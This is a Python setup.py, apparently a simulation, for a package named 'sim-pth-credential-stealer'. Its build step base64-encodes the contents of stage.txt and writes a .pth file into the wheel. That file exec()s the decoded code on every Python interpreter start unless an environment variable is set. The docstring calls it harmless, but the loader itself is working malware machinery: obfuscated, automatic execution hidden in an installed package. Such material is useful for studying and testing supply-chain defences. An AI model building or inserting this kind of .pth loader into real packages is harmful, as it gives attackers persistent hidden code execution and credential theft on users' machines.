# SPDX-License-Identifier: Apache-2.0
"""Puts sim_startup.pth at the top of the wheel. Harmless: what it starts sends to a name that cannot exist."""

import base64
import os

from setuptools import setup
from setuptools.command.build_py import build_py


class BuildPy(build_py):
    def run(self):
        super().run()
        with open("stage.txt", "rb") as file:
            code = base64.b64encode(file.read()).decode()
        line = f"import os, base64; os.environ.get('SIM_S') or exec(base64.b64decode('{code}'))\n"
        with open(os.path.join(self.build_lib, "sim_startup.pth"), "w") as file:
            file.write(line)


setup(
    name="sim-pth-credential-stealer",
    version="1.0.0",
    py_modules=["sim_pth_credential_stealer"],
    cmdclass={"build_py": BuildPy},
)
